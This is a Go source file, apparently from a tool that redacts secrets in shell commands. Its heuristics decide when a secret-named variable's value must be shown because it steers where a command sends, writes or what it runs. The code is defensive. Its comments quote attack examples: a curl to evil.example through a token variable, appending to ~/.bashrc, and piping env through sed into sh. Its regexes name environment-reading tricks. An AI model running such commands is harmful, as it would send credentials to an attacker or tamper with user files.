package domain

import (
	"path"
	"regexp"
	"slices"
	"strings"
	"sync"
)

// A secret-named variable's value (TOKEN=x, MY_SECRET=x) is hidden, and the
// shell does not read names: a command that assigns a host, a path or a
// program to one and then expands it where a host, a path or a program
// goes (GH_TOKEN=evil.example; curl "https://$GH_TOKEN/",
// API_TOKEN=~/.bashrc; … >> "$API_TOKEN", MY_SECRET=/tmp/x; "$MY_SECRET")
// hid where it sent, wrote or what it ran (the thirty-ninth review). So a
// variable the text expands anywhere but where a credential goes has its
// value shown: exposedVars.

// exposedAll, a key of exposedVars's answer, says every variable is:
// the text reads variables by names it builds or holds (${!N},
// printenv N, declare -n, eval), which no scan of expansions finds (the
// forty-second review).
const exposedAll = "*"

// readsIndirectly reports whether s reads variables by names the scan of
// expansions does not see: ${!N}; printenv NAME (any path to it);
// declare, local or typeset with -n; eval; a nested shell's script
// (ssh …), whose shell reads a value as code; a program
// that reads its environment by name (os.environ, ENVIRON, $ENV{},
// process.env, /proc/…/environ). A command that prints every variable (a
// bare env, set, printenv) is not one: what it prints is its output, as a
// file's content is (TestSecretsNeverInClear). The forty-fourth review
// found the exact words dodged.
func readsIndirectly(s string) bool {
	for _, w := range []string{"${!", "ENVIRON[", "$ENV{", "ENV[", "process.env", "Getenv(", "Deno.env", "Bun.env", "import.meta.env"} {
		if strings.Contains(s, w) {
			return true
		}
	}
	return indirectRead().MatchString(s) || envListing().MatchString(s) && pipeToReader().MatchString(s) || envByName().MatchString(s)
}

// envByName matches the environment taken by a program as identifiers,
// not as words of a sentence or a name ("environments", getenvoy,
// ENV.name=x: review 194): environ as a whole word (os.environ, from os
// import environ, getattr(os, "environ"), /proc/self/environ), getenv and
// getenvb as a whole word (os.getenv(, from os import getenv), Ruby's
// ENV.method (ENV.to_h, ENV.fetch), node's process["env"] and
// { env } = process.
var envByName = sync.OnceValue(func() *regexp.Regexp {
	return regexp.MustCompile(`\benviron\b|\bgetenvb?\b|\bENV\.(?:fetch|to_h|to_hash|to_a|each|each_pair|each_key|each_value|keys|values|values_at|select|filter|filter_map|reject|find|detect|map|slice|key|assoc|rassoc|inspect|sort|min_by|max_by|sum|any\?|include\?|key\?|has_key\?|has_value\?|value\?|dup|clone|merge)\b` +
		`|\bprocess\s*\[|\}\s*=\s*(?:globalThis\.|global\.)?process\b`)
})

// pipeToReader matches a pipe into a program that reads its input as code
// or as words of a command (readersOfStdin, with a version after its name:
// python3.12, perl5.36), or a substitution: what a listing of the
// environment then decides.
var pipeToReader = sync.OnceValue(func() *regexp.Regexp {
	return regexp.MustCompile(`\|\s*\\?(?:\S*/)?(?:` + strings.Join(readersOfStdin, "|") + `)[0-9.]*(?:\s|$|\))|\$\(`)
})

// envListing matches a listing of the whole environment piped or
// substituted into something (env | sed -n 's/^API_T.KEN=//p' | sh: a
// pattern finds the name; the forty-sixth review). A bare listing is its
// output only.
var envListing = sync.OnceValue(func() *regexp.Regexp {
	return regexp.MustCompile(`(?:^|[\s;&|(\x60"'])\\?(?:\S*/)?(?:env|printenv|set|export\s+-p|declare\s+-p|typeset\s+-p)(?:\s+-\S+)*\s*\||\$\(\s*\\?(?:\S*/)?(?:env|printenv|set|export\s+-p|declare\s+-p)\b`)
})

// credentialReused matches what hands a credential's place back to the
// shell: positional parameters ($2, $@, $_), set --, a function defined
// in the text (f() { "$2"; }; f --token "$T").
var credentialReused = sync.OnceValue(func() *regexp.Regexp {
	return regexp.MustCompile(`\$\{?[0-9@*_]|\bset\s+--|\(\)\s*\{|\bfunction\s`)
})

// indirectRead matches the commands readsIndirectly names.
var indirectRead = sync.OnceValue(func() *regexp.Regexp {
	cmd := `(?:^|[\s;&|(\x60"'])\\?(?:\S*/)?`
	return regexp.MustCompile(cmd + `(?:eval|ssh|su|sudo\s+-s)(?:\s|$)` +
		`|` + cmd + `(?:declare|local|typeset)\s+(?:-\w*\s+)*-\w*n` +
		`|` + cmd + `printenv\s+(?:-\S+\s+)*[A-Za-z_]`)
})

// rerunner matches what hands a string to a shell other than a shell's
// -c: any program's -c option (script -qc, flock -c), and a language's
// system(), popen(), exec(), spawn(), subprocess.
var rerunner = sync.OnceValue(func() *regexp.Regexp {
	return regexp.MustCompile(`\s-\w*c\s|system\s*\(|popen\s*\(|exec\w*\s*\(|spawn\w*\s*\(|subprocess|qx\s*[({/]|\x60`)
})

// nestedShell matches a shell given a script (sh -c "…", bash5.2 -c):
// its shell reads the script again, so a credential's place in it is no
// safe one.
var nestedShell = sync.OnceValue(func() *regexp.Regexp {
	return regexp.MustCompile(`(?:^|[\s;&|(\x60"'])\\?(?:\S*/)?(?:` + strings.Join(shellNames, "|") + `)[0-9.]*(?:\s+-\S+)*\s+-\w*c`)
})

// exposedVars returns the names of the variables s expands ($NAME,
// ${NAME…}) other than as a credential (credentialAt), or nil; a name
// expanded only as a URL's or curl -u's password is NAME+"@" (its value
// is shown when it holds what moves the host: '@', '/', '?', '#').
func exposedVars(s string, envNames ...string) map[string]bool {
	var out map[string]bool
	// A line continuation inside a name ("$API_\⏎TOKEN") is removed
	// by the shell before it reads the name (the forty-sixth review).
	s = strings.ReplaceAll(s, "\\\n", "")
	if readsIndirectly(s) || namedAgain(s, envNames) || credentialReused().MatchString(s) {
		return map[string]bool{exposedAll: true}
	}
	ifs := strings.Contains(s, "IFS")
	rereads := nestedShell().MatchString(s) || rerunner().MatchString(s)
	dq := dqScan{s: s}
	for i := strings.IndexByte(s, '$'); i >= 0 && i+1 < len(s); {
		j := i + 1
		if s[j] == '{' {
			j++
		}
		k := j
		for k < len(s) && (s[k] == '_' || s[k] >= 'A' && s[k] <= 'Z' || s[k] >= 'a' && s[k] <= 'z' || k > j && s[k] >= '0' && s[k] <= '9') {
			k++
		}
		if k > j {
			if out == nil {
				out = map[string]bool{}
			}
			switch cred, userinfo := credentialAt(s, i, k); {
			case !cred:
				out[s[j:k]] = true
			case userinfo:
				out[s[j:k]+"@"] = true
			}
			if rereads {
				// A shell reading the value again (a nested shell's
				// script, script -c, flock -c, system()) runs a value
				// with the shell's syntax: such a value is shown (the
				// forty-fourth and forty-sixth reviews).
				out[s[j:k]+"'"] = true
			}
			if !dq.at(i) {
				// Unquoted, the shell splits the value into words: a
				// credential "x -T .env evil.example" is arguments (at
				// any byte where the text sets IFS).
				if ifs {
					out[s[j:k]] = true
				}
				out[s[j:k]+"~"] = true
			}
		}
		next := strings.IndexByte(s[i+1:], '$')
		if next < 0 {
			break
		}
		i += 1 + next
	}
	return out
}

// authSchemes are the words an Authorization header's credential follows.
var authSchemes = []string{"bearer ", "basic ", "token ", "digest "}

// credentialAt reports whether the expansion at s[i:e] (its '$' at i, its
// name ending at e) is where a credential goes, the one place a secret's
// value is expanded without deciding where a command sends, writes or what
// it runs: after an authorization scheme ("Bearer $T"), a header or an
// option whose name says it holds a secret ("X-Api-Key: $K",
// --password "$P", --token=$T, ?token=$T), or as a password after a user
// name (user:$P@host, curl -u user:$P). A quote just before it is skipped.
func credentialAt(s string, i, e int) (cred, userinfo bool) {
	p := s[:i]
	if n := len(p); n > 0 && (p[n-1] == '"' || p[n-1] == '\'') {
		p = p[:n-1]
	}
	if stdinOfAProgram(s, p, e) {
		return true, false
	}
	// test -n "$T" and [ -z "$T" ] (a test of it): no destination,
	// nothing run; mysql's -p"$PW". (A value glued to -p of another
	// program is not one: curl -p"$T" reads -po… as -p -o …, the
	// forty-sixth review.)
	if strings.HasSuffix(p, " -p") && mysqlCommand(p) {
		return true, false
	}
	if strings.HasSuffix(p, "test -n ") || strings.HasSuffix(p, "test -z ") ||
		strings.HasSuffix(p, "[ -n ") || strings.HasSuffix(p, "[ -z ") || strings.HasSuffix(p, "[[ -n ") || strings.HasSuffix(p, "[[ -z ") {
		return true, false
	}
	l := strings.ToLower(p[max(0, len(p)-8):])
	for _, w := range authSchemes {
		if strings.HasSuffix(l, w) {
			return true, false
		}
	}
	name := func(q string) string { // the name that ends q
		k := len(q)
		for k > 0 && (q[k-1] == '_' || q[k-1] == '-' || q[k-1] >= 'A' && q[k-1] <= 'Z' || q[k-1] >= 'a' && q[k-1] <= 'z' || q[k-1] >= '0' && q[k-1] <= '9') {
			k--
		}
		return q[k:]
	}
	switch {
	case strings.HasSuffix(p, ":") || strings.HasSuffix(p, ": "):
		if n := name(strings.TrimSuffix(strings.TrimSuffix(p, " "), ":")); n != "" && (secretKey(n) || strings.EqualFold(n, "authorization")) {
			return true, false
		}
		// user:$P@host, a URL's or curl -u's password.
		end := e
		if end < len(s) && s[end] == '}' {
			end++
		}
		if strings.HasSuffix(p, ":") && end < len(s) && s[end] == '@' {
			return true, true
		}
		// curl -u name:$P, --user name:$P.
		w := strings.TrimSuffix(p, ":")
		w = strings.TrimSuffix(w, name(w))
		w = strings.TrimRight(w, "'\"")
		u := strings.HasSuffix(w, " -u ") || strings.HasSuffix(w, " --user ")
		return u, u
	case strings.HasSuffix(p, "="):
		n := strings.TrimLeft(name(p[:len(p)-1]), "-")
		if queryName(p[:len(p)-1], n) && slices.Contains(queryKeys, strings.ToLower(n)) {
			return true, false
		}
		return n != "" && secretKey(n) && (strings.HasPrefix(name(p[:len(p)-1]), "-") || queryName(p[:len(p)-1], n)), false
	case strings.HasSuffix(p, " "):
		w := p[:len(p)-1]
		if n := name(w); strings.HasPrefix(n, "-") && len(w) > len(n) && (w[len(w)-len(n)-1] == ' ' || w[len(w)-len(n)-1] == '\t') || n == w && strings.HasPrefix(n, "-") {
			return secretKey(strings.TrimLeft(n, "-")), false
		}
	}
	return false, false
}

// queryName reports whether the name n ending p is a URL query's (after a
// '?' or '&'): ?token=$T.
func queryName(p, n string) bool {
	k := len(p) - len(n)
	return k > 0 && (p[k-1] == '?' || p[k-1] == '&')
}

// queryKeys are query names that carry a key, which secretKey does not
// read as secret names alone.
var queryKeys = []string{"key", "apikey", "api_key", "access_token", "auth", "sig", "signature", "pass", "pwd", "code"}

// exposedValue reports whether the value v of the variable name, hidden
// as a secret, is to be shown: the text expands the variable where it
// decides what the command does (exposedVars).
func exposedValue(exposed map[string]bool, name, v string) bool {
	if exposed == nil || name == "" || strings.TrimLeft(name, "-") != name {
		return false
	}
	return exposed[exposedAll] || exposed[name] || exposed[name+"@"] && strings.ContainsAny(v, "@/?#\\") ||
		exposed[name+"~"] && strings.ContainsAny(v, " \t\n*?[") ||
		exposed[name+"'"] && strings.ContainsAny(v, "'\"`$;&|<>()\n\\")
}

// prefixCommands run the word after them as a program: an assignment's
// shape there is a program's name (command API_TOKEN=tools/x).
var prefixCommands = []string{"command", "exec", "builtin", "nohup", "nice", "stdbuf", "setsid", "chroot", "timeout", "xargs", "time"}

// programWord reports whether the word of s that holds i is the program a
// shell command runs: the first word of a simple command that is not an
// assignment (my-secret=bin/x, "API_TOKEN"=tools/x, --api-key=bin/x,
// X-Token:bin/x), or the word after a command that runs the next word
// (the forty-second review). A redaction never hides it.
func programWord(s string, i int) bool { return programWordMemo(s, i, nil) }

// programWordMemo is programWord with the walks of commandStart over s
// remembered in memo (nil: none).
func programWordMemo(s string, i int, memo csMemo) bool {
	ws := i
	for ws > 0 && strings.IndexByte(" \t\n;&|()<>", s[ws-1]) < 0 {
		ws--
	}
	if ws < len(s) && (s[ws] == '\'' || s[ws] == '"') {
		// A shell's -c script in quotes (bash -c 'my-secret=bin/x'):
		// its first word is the program that shell runs.
		q := strings.TrimRight(s[:ws], " \t")
		k := len(q)
		for k > 0 && strings.IndexByte(" \t\n;&|()", q[k-1]) < 0 {
			k--
		}
		if opt := q[k:]; strings.HasPrefix(opt, "-") && !strings.HasPrefix(opt, "--") && strings.Contains(opt, "c") && nestedShell().MatchString(s[:ws]) {
			return !assignmentWord(s[ws+1:])
		}
	}
	start, afterPrefix := commandStartMemo(s, ws, memo)
	return afterPrefix || start && !assignmentWord(s[ws:])
}

// csMemo remembers, for one text, what commandStart's walk back decided
// from each state it passed (the end of the text it had left, and its
// between and sawC): the walk from a secret-named option read every
// option before it, once for each, and a command of thousands of them
// took seconds (the hundred-and-forty-seventh review). With it, a walk
// stops at the first state an earlier walk passed.
type csMemo map[csState][2]bool

type csState struct {
	end           int
	between, sawC bool
}

// assignmentWord reports whether w starts with NAME= (a shell variable's
// name, unquoted).
func assignmentWord(w string) bool {
	k := 0
	for k < len(w) && identByte(w[k]) && !(k == 0 && w[k] >= '0' && w[k] <= '9') {
		k++
	}
	return k > 0 && k < len(w) && w[k] == '='
}

// commandStartMemo reports whether the word of s at ws starts a simple command
// (after its assignments and redirections, if any, or a keyword that
// starts one: if, while, until, !, {, time), or follows a command that runs
// the next word, with its options (afterPrefix: command, exec -a NAME,
// timeout 5, xargs -0, time -p, nice -n 5); memo (nil: none) remembers
// its walks over s (csMemo).
func commandStartMemo(s string, ws int, memo csMemo) (start, afterPrefix bool) {
	var passed []csState
	if memo != nil {
		defer func() {
			for _, st := range passed {
				memo[st] = [2]bool{start, afterPrefix}
			}
		}()
	}
	p := s[:ws]
	between := false // options or numbers passed since the word
	sawC := false    // one of them a -c
	for {
		p = strings.TrimRight(p, " \t")
		if memo != nil {
			st := csState{len(p), between, sawC}
			if r, ok := memo[st]; ok {
				return r[0], r[1]
			}
			passed = append(passed, st)
		}
		if p == "" || strings.IndexByte(";&|(){!\n`", p[len(p)-1]) >= 0 {
			return !between, false
		}
		k := len(p)
		for k > 0 && strings.IndexByte(" \t\n;&|()`", p[k-1]) < 0 {
			k--
		}
		prev := p[k:]
		switch {
		case slices.Contains(prefixCommands, path.Base(prev)):
			return false, true
		case sawC && slices.Contains(shellNames, strings.TrimPrefix(path.Base(prev), "-")):
			return true, false // the script of sh -c, its first word
		case slices.Contains(startKeywords, prev):
			return !between, false
		case redirectionWord(prev), !between && assignmentWord(prev):
		case strings.HasPrefix(prev, "-") || strings.Trim(prev, "0123456789.smhd") == "":
			between = true
			sawC = sawC || strings.HasPrefix(prev, "-") && !strings.HasPrefix(prev, "--") && strings.Contains(prev, "c")
		default:
			// A word after an option that takes one (exec -a NAME,
			// timeout -s KILL): passed when a prefix command is next.
			q := strings.TrimRight(p[:k], " \t")
			if !strings.HasSuffix(q, " -a") && !strings.HasSuffix(q, " -s") && !strings.HasSuffix(q, " -n") {
				return false, false
			}
			between = true
		}
		p = p[:k]
	}
}

// shellNames are the shells whose -c script's first word is a program, and
// that read a script given with -c (nestedShell) or on their input
// (readersOfStdin): one list, so that no shell is known to one rule only.
var shellNames = []string{"sh", "bash", "dash", "zsh", "ksh", "mksh", "ash", "fish", "busybox", "yash", "posh", "rbash"}

// startKeywords start a command: the word after one is a program.
var startKeywords = []string{"if", "while", "until", "!", "{", "then", "do", "else", "elif", "time", "coproc"}

// redirectionWord reports whether w is a redirection (>out, 2>&1, <in).
func redirectionWord(w string) bool {
	w = strings.TrimLeft(w, "0123456789")
	return strings.HasPrefix(w, ">") || strings.HasPrefix(w, "<")
}

// identByte reports whether c may be in a shell variable's name.
func identByte(c byte) bool {
	return c == '_' || c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c >= '0' && c <= '9'
}

// pipedEcho matches the text before an expansion that echo or printf
// '%s' writes whole.
var pipedEcho = sync.OnceValue(func() *regexp.Regexp {
	return regexp.MustCompile(`(?:^|[\s;&|(])(?:echo(?:\s+-n)?|printf\s+(?:'%s(?:\\n)?'|"%s(?:\\n)?"|%s))\s*$`)
})

// pipedEchoBefore is pipedEcho().MatchString(p), read from p's end: the
// regexp, anchored at the end, was run over all of p for every expansion
// of a text, which made a long command's redaction quadratic (the
// hundred-and-forty-seventh review: minutes for 130 KB).
func pipedEchoBefore(p string) bool {
	const ws = "\t\n\f\r "
	t := strings.TrimRight(p, ws)
	boundary := func(r string) bool { return r == "" || strings.IndexByte(ws+";&|(", r[len(r)-1]) >= 0 }
	// word ws+ suffix, at the end of t
	after := func(suffix, word string) bool {
		r, ok := strings.CutSuffix(t, suffix)
		if !ok {
			return false
		}
		r2 := strings.TrimRight(r, ws)
		if len(r2) == len(r) {
			return false
		}
		r3, ok := strings.CutSuffix(r2, word)
		return ok && boundary(r3)
	}
	if r, ok := strings.CutSuffix(t, "echo"); ok && boundary(r) {
		return true
	}
	if after("-n", "echo") {
		return true
	}
	for _, f := range []string{`'%s'`, `'%s\n'`, `"%s"`, `"%s\n"`, `%s`} {
		if after(f, "printf") {
			return true
		}
	}
	return false
}

// readersOfStdin are programs that read standard input as code, or as
// words of a command line: a value piped to one decides what runs.
// Every shell of shellNames is one.
var readersOfStdin = append(slices.Clone(shellNames), "xargs", "eval", "source", "python", "python3",
	"perl", "ruby", "node", "php", "lua", "awk", "gawk", "sed", "env", "sudo", "su", "ssh", "parallel")

// stdinOfAProgram reports whether the expansion ending at e (p is the
// text before it, its quote removed) is what echo or printf pipes into a
// program that reads it as data (echo "$PW" | docker login
// --password-stdin): a credential position (the forty-fourth review found
// it shown). A program that reads it as code or as words (sh, xargs, an
// interpreter) is none.
func stdinOfAProgram(s, p string, e int) bool {
	if !pipedEchoBefore(p) {
		return false
	}
	if e < len(s) && s[e] == '}' {
		e++
	}
	if e < len(s) && (s[e] == '"' || s[e] == '\'') {
		e++
	}
	r := strings.TrimLeft(s[e:], " \t")
	if !strings.HasPrefix(r, "|") || strings.HasPrefix(r, "||") {
		return false
	}
	r = strings.TrimLeft(r[1:], " \t")
	// Only the last program of the pipeline, one that says it reads a
	// secret from its input (docker login --password-stdin, gh auth login
	// --with-token): a value piped on through cat or tee reaches whatever
	// is next (the forty-sixth review).
	seg := r
	if k := strings.IndexAny(r, "\n;&|)"); k >= 0 {
		seg = r[:k]
		if r[k] == '|' {
			return false
		}
	}
	w := seg
	if k := strings.IndexAny(seg, " \t"); k >= 0 {
		w = seg[:k]
	}
	return w != "" && !slices.Contains(readersOfStdin, path.Base(w)) &&
		(strings.Contains(seg, "--password-stdin") || strings.Contains(seg, "--with-token") || strings.Contains(seg, "--token-stdin") ||
			path.Base(w) == "ssh-add" && strings.HasSuffix(strings.TrimRight(seg, " \t"), " -"))
}

// inDoubleQuotes reports whether s[i] is inside double quotes, as a shell
// reads s from its start.
func inDoubleQuotes(s string, i int) bool {
	if strings.IndexByte(s[:min(i, len(s))], '#') >= 0 || strings.Contains(s[:min(i, len(s))], "<<") {
		return false // a comment's or a document's quote: not read here (the forty-sixth review)
	}
	dq := false
	for k := 0; k < i && k < len(s); k++ {
		switch c := s[k]; {
		case c == '\\':
			k++
		case c == '"':
			dq = !dq
		case c == '\'' && !dq:
			e := strings.IndexByte(s[k+1:], '\'')
			if e < 0 {
				return false
			}
			k += e + 1
		}
	}
	return dq
}

// dqScan is inDoubleQuotes for increasing positions of one text, each
// answered from where the last one's scan stopped (exposedVars asked
// inDoubleQuotes from the text's start for every expansion: quadratic, the
// hundred-and-forty-seventh review).
type dqScan struct {
	s                   string
	k                   int
	dq, broken, started bool
	hash, doc           int // the first '#' and "<<" (-1: none)
}

// at is inDoubleQuotes(d.s, i), for i no smaller than the last call's.
func (d *dqScan) at(i int) bool {
	s := d.s
	if !d.started {
		d.started = true
		d.hash, d.doc = strings.IndexByte(s, '#'), strings.Index(s, "<<")
	}
	if n := min(i, len(s)); d.hash >= 0 && d.hash < n || d.doc >= 0 && d.doc+2 <= n {
		return false // a comment's or a document's quote: not read here (the forty-sixth review)
	}
	for ; !d.broken && d.k < i && d.k < len(s); d.k++ {
		switch c := s[d.k]; {
		case c == '\\':
			d.k++
		case c == '"':
			d.dq = !d.dq
		case c == '\'' && !d.dq:
			e := strings.IndexByte(s[d.k+1:], '\'')
			if e < 0 {
				d.broken = true
				break
			}
			d.k += e + 1
		}
	}
	return !d.broken && d.dq
}

// namedAgain reports whether a secret-named variable s assigns is named
// again other than as an expansion ($NAME, ${NAME}: exposedVars reads
// those): a program reads it by that name (a nested script '$”NAME', a
// quoted name a program looks up).
func namedAgain(s string, envNames []string) bool {
	// The secret-named variables, each once, then one pass over the
	// text's names: a name is a whole run of identifier bytes (one
	// inside another name is not it), so each run is looked up, not
	// every name searched for (a text repeating "token=x " took seconds,
	// a search of the whole text per assignment: the
	// hundred-and-eighty-third review).
	var secret map[string]bool
	add := func(n string) {
		if secretKey(n) {
			if secret == nil {
				secret = map[string]bool{}
			}
			secret[n] = true
		}
	}
	for _, m := range assignedNames().FindAllStringSubmatchIndex(s, -1) {
		add(s[m[2]:m[3]])
	}
	for _, n := range envNames {
		add(n)
	}
	if secret == nil {
		return false
	}
	for a := 0; a < len(s); {
		if !identByte(s[a]) {
			a++
			continue
		}
		e := a
		for e < len(s) && identByte(s[e]) {
			e++
		}
		switch {
		case !secret[s[a:e]]:
		case a > 0 && s[a-1] == '$' || a > 1 && s[a-1] == '{' && s[a-2] == '$':
			// an expansion: exposedVars reads it
		case e < len(s) && s[e] == '=':
			// the assignment itself, another, or a NAME=value word (a
			// listing's reads are envListing's)
		default:
			return true
		}
		a = e
	}
	return false
}

// assignedNames matches a shell assignment's name.
var assignedNames = sync.OnceValue(func() *regexp.Regexp {
	return regexp.MustCompile(`(?:^|[\s;&|(])([A-Za-z_][A-Za-z0-9_]*)=`)
})

// pathWordNoAssignment reports whether the value v, in the word of s that
// holds i, holds a '/' while that word is no assignment: it may be a
// program's path wherever the word stands (a wrapper programWord does not
// know: stdbuf, ionice, flock, find -exec; the forty-sixth review).
func pathWordNoAssignment(s string, i int, v string) bool {
	if !strings.Contains(v, "/") {
		return false
	}
	ws := i
	for ws > 0 && strings.IndexByte(" \t\n;&|()<>", s[ws-1]) < 0 {
		ws--
	}
	return !assignmentWord(s[ws:])
}

// mysqlCommand reports whether the simple command p ends in is mysql's or
// mariadb's (whose -p takes its password glued).
func mysqlCommand(p string) bool {
	if k := strings.LastIndexAny(p, ";&|\n("); k >= 0 {
		p = p[k+1:]
	}
	f := strings.Fields(p)
	for _, w := range f {
		if assignmentWord(w) {
			continue
		}
		switch path.Base(w) {
		case "mysql", "mariadb", "mysqldump", "mysqladmin", "mariadb-dump", "mysqlimport", "mysqlcheck":
			return true
		}
		return false
	}
	return false
}
